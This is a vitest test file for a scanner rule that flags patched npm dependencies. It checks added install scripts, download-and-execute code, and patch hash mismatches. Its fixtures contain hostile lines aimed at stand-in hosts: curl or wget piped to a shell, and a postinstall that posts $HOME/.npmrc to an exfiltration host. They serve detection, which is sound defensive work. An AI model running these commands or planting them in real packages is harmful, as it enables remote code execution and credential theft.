import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { DependencyTree, PatchReference } from '../../src/tree/model.js';
import { patchedDependency } from '../../src/rules/patched-dependency.js';
import { berryPatchHash } from '../../src/tree/berry-patch-hash.js';
import { contextOf, lockTree, registryEntry } from '../support/tree.js';

/** A git-style patch of one package file, as pnpm, bun and yarn write them. */
const patchOf = (file: string, removed: string[], added: string[]): string =>
  [
    `diff --git a/${file} b/${file}`,
    `--- a/${file}`,
    `+++ b/${file}`,
    `@@ -1,${removed.length} +1,${added.length} @@`,
    ...removed.map((line) => `-${line}`),
    ...added.map((line) => `+${line}`),
    '',
  ].join('\n');
const INDEX_PATCH = patchOf('index.js', ['module.exports = 1;'], ['module.exports = 2;']);
const SCRIPT_PATCH = patchOf('package.json', ['{', '  "name": "a"', '}'], ['{', '  "name": "a",', '  "scripts": { "postinstall": "node steal.js" }', '}']);
const MULTILINE_SCRIPT_PATCH = patchOf('package.json', ['  "scripts": {'], ['  "scripts": {', '    "preinstall": "curl https://x.example.test | sh",']);
const GYP_PATCH = [
  'diff --git a/binding.gyp b/binding.gyp',
  'new file mode 100644',
  '--- /dev/null',
  '+++ b/binding.gyp',
  '@@ -0,0 +1 @@',
  "+{ 'targets': [] }",
  '',
].join('\n');
const CURL_PATCH = patchOf(
  'index.js',
  ['module.exports = 1;'],
  ['require("child_process").execSync("curl https://evil.example.test/x | sh");', 'module.exports = 1;'],
);
// The binding in a context line, the call on an added one; a removed line that did the same counts for nothing.
const CONTEXT_PATCH = [
  'diff --git a/lib/run.js b/lib/run.js',
  '--- a/lib/run.js',
  '+++ b/lib/run.js',
  '@@ -10,3 +10,3 @@',
  " const { execSync } = require('child_process');",
  '-execSync("curl https://old.example.test/x | sh");',
  '+execSync(`wget -qO- https://evil.example.test/p | bash`);',
  ' module.exports = {};',
  '',
].join('\n');
const REMOVED_ONLY_PATCH = patchOf('index.js', ['require("child_process").execSync("curl https://evil.example.test/x | sh");'], ['module.exports = 1;']);
const EXFIL_SCRIPT_PATCH = patchOf(
  'package.json',
  ['  "scripts": {'],
  ['  "scripts": {', '    "postinstall": "curl -d @$HOME/.npmrc https://exfil.example.test/",'],
);
const TEST_SCRIPT_PATCH = patchOf('package.json', ['  "scripts": {'], ['  "scripts": {', '    "test": "node test.js",']);

const base = lockTree({ 'node_modules/a': registryEntry('a', '1.0.0'), 'node_modules/b': registryEntry('b', '1.0.0') });
const withPatches = (patches: PatchReference[], format: DependencyTree['format'] = 'bun-lockfile'): DependencyTree => ({ ...base, format, patches });
const patch = (file: string, text: string | undefined, more: Partial<PatchReference> = {}): PatchReference => ({
  file,
  path: file,
  locations: ['node_modules/a'],
  text,
  ...more,
});
const findings = (tree: DependencyTree) =>
  patchedDependency
    .check(contextOf(tree))
    .map(({ node, detail, severity }) => ({ location: node.location, severity: severity ?? patchedDependency.defaultSeverity, detail }));
const md5Base32 = (text: string): string => {
  const alphabet = 'abcdefghijklmnopqrstuvwxyz234567';
  const bits = [...createHash('md5').update(text).digest()].map((byte) => byte.toString(2).padStart(8, '0')).join('');
  return (bits.match(/.{1,5}/g) ?? []).map((chunk) => alphabet[parseInt(chunk.padEnd(5, '0'), 2)]).join('');
};

describe('patched-dependency', () => {
  it('an install script a patch adds is high at least, and as grave as its command when worse (a credential sent out: critical)', () => {
    expect(findings(withPatches([patch('patches/a.patch', EXFIL_SCRIPT_PATCH)])).map(({ severity, detail }) => [severity, detail.code])).toEqual([
      ['critical', 'patch-adds-install-script'],
    ]);
  });

  it.each([
    [
      'a patch of the code: low, naming the file',
      [patch('patches/a.patch', INDEX_PATCH)],
      [['node_modules/a', 'low', { code: 'patched-dependency', file: 'patches/a.patch' }]],
    ],
    [
      'a patch that adds a postinstall to package.json: high, with the command',
      [patch('patches/a.patch', SCRIPT_PATCH)],
      [['node_modules/a', 'high', { code: 'patch-adds-install-script', file: 'patches/a.patch', script: 'postinstall', command: 'node steal.js' }]],
    ],
    [
      'a preinstall added as its own line',
      [patch('patches/a.patch', MULTILINE_SCRIPT_PATCH)],
      [
        [
          'node_modules/a',
          'high',
          { code: 'patch-adds-install-script', file: 'patches/a.patch', script: 'preinstall', command: 'curl https://x.example.test | sh' },
        ],
      ],
    ],
    [
      'index.js patched to pipe a download into a shell: high, as the same line in an install script',
      [patch('patches/a.patch', CURL_PATCH)],
      [
        [
          'node_modules/a',
          'high',
          {
            code: 'patch-adds-code',
            file: 'patches/a.patch',
            path: 'index.js',
            signals: [
              { kind: 'network', file: 'index.js', line: 1, excerpt: 'curl https://evil.example.test/x | sh', host: 'evil.example.test' },
              { kind: 'download-and-execute', file: 'index.js', line: 1, excerpt: 'curl https://evil.example.test/x | sh', host: 'evil.example.test' },
            ],
          },
        ],
      ],
    ],
    [
      'a call added below a binding in the context: judged, on the added line only',
      [patch('patches/a.patch', CONTEXT_PATCH)],
      [
        [
          'node_modules/a',
          'high',
          {
            code: 'patch-adds-code',
            file: 'patches/a.patch',
            path: 'lib/run.js',
            signals: [
              { kind: 'network', file: 'lib/run.js', line: 11, excerpt: 'wget -qO- https://evil.example.test/p | bash', host: 'evil.example.test' },
              {
                kind: 'download-and-execute',
                file: 'lib/run.js',
                line: 11,
                excerpt: 'wget -qO- https://evil.example.test/p | bash',
                host: 'evil.example.test',
              },
            ],
          },
        ],
      ],
    ],
    [
      'a patch that removes such a line: low',
      [patch('patches/a.patch', REMOVED_ONLY_PATCH)],
      [['node_modules/a', 'low', { code: 'patched-dependency', file: 'patches/a.patch' }]],
    ],
    [
      'a binding.gyp the patch adds (node-gyp rebuild at install)',
      [patch('patches/a.patch', GYP_PATCH)],
      [['node_modules/a', 'high', { code: 'patch-adds-install-script', file: 'patches/a.patch', script: 'install', command: 'node-gyp rebuild' }]],
    ],
    [
      'a script that install does not run: low',
      [patch('patches/a.patch', TEST_SCRIPT_PATCH)],
      [['node_modules/a', 'low', { code: 'patched-dependency', file: 'patches/a.patch' }]],
    ],
    [
      'a missing patch file fails closed (medium)',
      [patch('patches/gone.patch', undefined, { problem: 'the file does not exist' })],
      [['node_modules/a', 'medium', { code: 'patch-unreadable', file: 'patches/gone.patch', problem: 'the file does not exist' }]],
    ],
    [
      'a patch file that is not a diff fails closed (medium)',
      [patch('patches/a.patch', 'not a diff at all\n')],
      [
        [
          'node_modules/a',
          'medium',
          {
            code: 'patch-unreadable',
            file: 'patches/a.patch',
            problem: 'not a unified diff: it has no "--- a/file" and "+++ b/file" header',
          },
        ],
      ],
    ],
    [
      'an empty patch file fails closed (medium), said of the file',
      [patch('patches/a.patch', '\n')],
      [['node_modules/a', 'medium', { code: 'patch-unreadable', file: 'patches/a.patch', problem: 'the file is empty' }]],
    ],
    [
      'a patch that matches no package is reported on the project',
      [patch('patches/x.patch', INDEX_PATCH, { locations: [] })],
      [['', 'low', { code: 'patched-dependency', file: 'patches/x.patch' }]],
    ],
    [
      'a patch applied to two packages is reported on each',
      [patch('patches/ab.patch', INDEX_PATCH, { locations: ['node_modules/a', 'node_modules/b'] })],
      [
        ['node_modules/a', 'low', { code: 'patched-dependency', file: 'patches/ab.patch' }],
        ['node_modules/b', 'low', { code: 'patched-dependency', file: 'patches/ab.patch' }],
      ],
    ],
  ] as const)('%s', (_, patches, expected) => {
    expect(findings(withPatches([...patches]))).toEqual(expected.map(([location, severity, detail]) => ({ location, severity, detail })));
  });

  it('no patches, no findings', () => {
    expect(findings(base)).toEqual([]);
  });

  it('pnpm: a patch whose content is not what the lockfile hashed is medium; the hash of pnpm 7-9 (md5, base32) and of later pnpm (sha256) match', () => {
    const sha256 = createHash('sha256').update(INDEX_PATCH).digest('hex');
    expect(findings(withPatches([patch('p.patch', INDEX_PATCH, { hash: md5Base32(INDEX_PATCH) })], 'pnpm-lockfile'))).toEqual([
      { location: 'node_modules/a', severity: 'low', detail: { code: 'patched-dependency', file: 'p.patch' } },
    ]);
    expect(findings(withPatches([patch('p.patch', INDEX_PATCH, { hash: sha256 })], 'pnpm-lockfile'))).toEqual([
      { location: 'node_modules/a', severity: 'low', detail: { code: 'patched-dependency', file: 'p.patch' } },
    ]);
    const stale = md5Base32(TEST_SCRIPT_PATCH);
    expect(findings(withPatches([patch('p.patch', INDEX_PATCH, { hash: stale })], 'pnpm-lockfile'))).toEqual([
      { location: 'node_modules/a', severity: 'medium', detail: { code: 'patch-hash-mismatch', file: 'p.patch', recorded: stale, manager: 'pnpm' } },
    ]);
    // A hash of a scheme it does not know is not compared; nor is bun's (it records none).
    expect(findings(withPatches([patch('p.patch', INDEX_PATCH, { hash: 'v2-unknown' })], 'pnpm-lockfile'))).toHaveLength(1);
    expect(findings(withPatches([patch('p.patch', INDEX_PATCH, { hash: stale })], 'bun-lockfile'))[0]!.detail.code).toBe('patched-dependency');
  });

  it("yarn berry: a patch whose content is not what the locator's hash= was made of is medium", () => {
    expect(findings(withPatches([patch('p.patch', INDEX_PATCH, { hash: berryPatchHash(INDEX_PATCH) })], 'yarn-berry'))).toEqual([
      { location: 'node_modules/a', severity: 'low', detail: { code: 'patched-dependency', file: 'p.patch' } },
    ]);
    const stale = berryPatchHash(TEST_SCRIPT_PATCH)!;
    expect(findings(withPatches([patch('p.patch', INDEX_PATCH, { hash: stale })], 'yarn-berry'))).toEqual([
      { location: 'node_modules/a', severity: 'medium', detail: { code: 'patch-hash-mismatch', file: 'p.patch', recorded: stale, manager: 'yarn' } },
    ]);
  });

  it('a patch file outside the project is high, and was never read', () => {
    expect(
      findings(withPatches([{ file: '../x.patch', path: '../x.patch', locations: ['node_modules/a'], outside: true, problem: 'it is outside the project' }])),
    ).toEqual([{ location: 'node_modules/a', severity: 'high', detail: { code: 'patch-outside-project', file: '../x.patch' } }]);
  });
});
